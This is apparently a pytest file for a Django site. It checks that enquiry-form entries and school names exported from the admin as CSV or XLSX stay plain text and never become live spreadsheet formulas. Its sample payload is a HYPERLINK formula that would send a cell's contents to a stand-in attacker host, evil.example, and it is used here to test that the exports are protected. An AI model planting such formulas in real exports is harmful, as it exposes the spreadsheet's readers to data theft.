"""No text leaves the admin as a live spreadsheet formula: what a visitor
typed into the enquiry form, or a school name imported as a formula, stays
text in the CSV and XLSX exports."""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from tests.editor_accounts import ministry_editor
from tests.factories import BatchSelectionFactory, EnquiryFactory, SchoolPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_a_formula_typed_into_an_enquiry_is_text_in_the_csv_and_xlsx_exports(client, home):
    school = SchoolPageFactory()
    EnquiryFactory(school=school, message=FORMULA, institution="+33 Institut", name="@admin")
    client.force_login(ministry_editor())
    rows = _csv_rows(client.get(reverse("enquiries:index"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'+33 Institut" in cells and "'@admin" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    xlsx = _xlsx_cells(client.get(reverse("enquiries:index"), {"export": "xlsx"}))
    assert FORMULA in [cell.value for cell in xlsx]
    assert all(cell.data_type != "f" for cell in xlsx)


def test_a_school_named_like_a_formula_is_text_in_the_dashboard_exports(client, home):
    school = SchoolPageFactory(title="=1+1", official_name_zh="=1+1")
    BatchSelectionFactory(school=school)
    client.force_login(ministry_editor())
    rows = _csv_rows(client.get(reverse("portal_dashboard_export", args=["schools", "csv"])))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+1" in cells and "=1+1" not in cells
    xlsx = _xlsx_cells(client.get(reverse("portal_dashboard_export", args=["schools", "xlsx"])))
    assert all(cell.data_type != "f" for cell in xlsx)
